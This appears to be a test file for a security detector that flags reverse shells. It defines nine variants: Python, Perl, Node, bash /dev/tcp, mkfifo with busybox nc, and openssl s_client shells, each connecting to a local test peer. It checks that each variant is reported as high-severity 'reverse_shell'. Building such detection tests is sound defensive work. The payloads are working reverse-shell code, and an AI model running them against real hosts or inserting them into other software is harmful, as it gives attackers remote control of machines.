import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { createServer } from "node:tls";
import { attacker, giveOrder, listening } from "../peers.ts";
import type { Place, Traced } from "../traced_job.ts";
import type { Variant } from "../variant.ts";

let port = 0;
async function prepare() {
  const { port: at, close } = await attacker();
  port = at;
  return close;
}

async function prepareTls({ directory }: Place) {
  const [key, cert] = [join(directory, "key"), join(directory, "cert")];
  const about = ["-subj", "/CN=peer", "-days", "1", "-keyout", key, "-out", cert];
  execFileSync("openssl", ["req", "-x509", "-nodes", "-newkey", "rsa:2048", ...about], {
    stdio: "ignore",
  });
  const keys = { key: readFileSync(key), cert: readFileSync(cert) };
  const { port: at, close } = await listening(createServer(keys, giveOrder));
  port = at;
  return close;
}

const happened = ({ stdout, stderr }: Traced) => assert.match(stdout, /ran/, stderr);
const found = {
  ...{ signature: "JW-150", severity: "high", behaviour: "reverse_shell" },
  message: /is connected to 127\.0\.0\.1:\d+; whoever/,
} as const satisfies Partial<Variant["found"]>;

/** Runs a command line, and shows what the peer made it do. */
const thenShow = (line: string, ...args: readonly string[]) => [
  ...["bash", "-c", `${line}; cat proof`, "job", ...args],
];

export const variants: Variant[] = [
  {
    name: "python copies between a socket and a shell's pipes",
    prepare,
    command: () =>
      thenShow(
        'python3 -c "$1"',
        `import socket, subprocess, threading
s = socket.create_connection(("127.0.0.1", ${port}))
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
threading.Thread(target=lambda: [s.sendall(line) for line in p.stdout], daemon=True).start()
while data := s.recv(999):
    p.stdin.write(data)
    p.stdin.flush()
p.wait()`,
      ),
    happened,
    found: { ...found, program: "/dash" },
  },
  {
    name: "python copies between a socket and a pseudo-terminal",
    prepare,
    command: () =>
      thenShow(
        'python3 -c "$1"',
        `import os, pty, socket
s = socket.create_connection(("127.0.0.1", ${port}))
pid, fd = pty.fork()
if pid == 0:
    os.execv("/bin/bash", ["bash", "--norc"])
while data := s.recv(999):
    os.write(fd, data)
try:
    while data := os.read(fd, 999):
        s.sendall(data)
except OSError:
    pass
os.waitpid(pid, 0)`,
      ),
    happened,
    found: { ...found, program: "/bash" },
  },
  {
    name: "a fifo leads a program's answer back to the shell",
    prepare,
    command: () =>
      // The peer may hang up before the shell has shown its prompt.
      thenShow(`trap '' PIPE; mkfifo f; cat f | sh -i 2>&1 | busybox nc 127.0.0.1 ${port} >f`),
    happened,
    found: { ...found, program: "/dash" },
  },
  {
    name: "openssl encrypts what a fifo leads back to the shell",
    prepare: prepareTls,
    command: () =>
      thenShow(
        `mkfifo f; sh <f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:${port} >f 2>log`,
      ),
    happened,
    found: { ...found, program: "/dash" },
  },
  {
    name: "perl copies between a socket and a shell's pipes",
    prepare,
    command: () =>
      thenShow(
        'perl -e "$1"',
        `use IO::Socket::INET; use IPC::Open2; $SIG{PIPE} = "IGNORE";
my $s = IO::Socket::INET->new("127.0.0.1:${port}") or die;
my $pid = open2(my $out, my $in, "/bin/sh");
while (my $line = <$s>) { syswrite $in, $line; }
while (my $line = <$out>) { print $s $line; }
waitpid $pid, 0;`,
      ),
    happened,
    found: { ...found, program: "/dash" },
  },
  {
    name: "node pipes a socket into a shell",
    prepare,
    command: () =>
      thenShow(
        '"$1" -e "$2"',
        process.execPath,
        `const s = require("net").connect(${port}, "127.0.0.1", () => {
  const sh = require("child_process").spawn("/bin/sh", []);
  s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); s.on("error", () => {});
});`,
      ),
    happened,
    found: { ...found, program: "/dash" },
  },
  {
    name: "bash copies between its own connection and a coprocess",
    prepare,
    command: () =>
      thenShow(
        `exec 3<>/dev/tcp/127.0.0.1/${port}; coproc sh -i 2>&1; cat <&\${COPROC[0]} >&3 & cat <&3 >&\${COPROC[1]}; wait %1`,
      ),
    happened,
    found: { ...found, program: "/dash" },
  },
  {
    name: "a shell between two fifos, whose other ends python copies to a socket",
    prepare,
    command: () =>
      thenShow(
        'mkfifo in out; sh <in >out 2>&1 & python3 -c "$1"; wait',
        `import socket
s = socket.create_connection(("127.0.0.1", ${port}))
to = open("in", "wb", buffering=0)
out = open("out", "rb", buffering=0)
while data := s.recv(999):
    to.write(data)
to.close()
while data := out.read(999):
    s.sendall(data)`,
      ),
    happened,
    // Opening a fifo waits for the other end, so the shell starts last.
    found: { ...found, message: /from python3\.11 .* is connected to/, program: "/dash" },
  },
  {
    name: "bash runs each line that cat copies from its connection",
    prepare,
    command: () =>
      thenShow(
        `exec 3<>/dev/tcp/127.0.0.1/${port}; cat <&3 | while read -r line; do env sh -c "$line" >&3; done`,
      ),
    happened,
    found: { ...found, message: /from cat .* is connected to/, program: "/env" },
  },
];
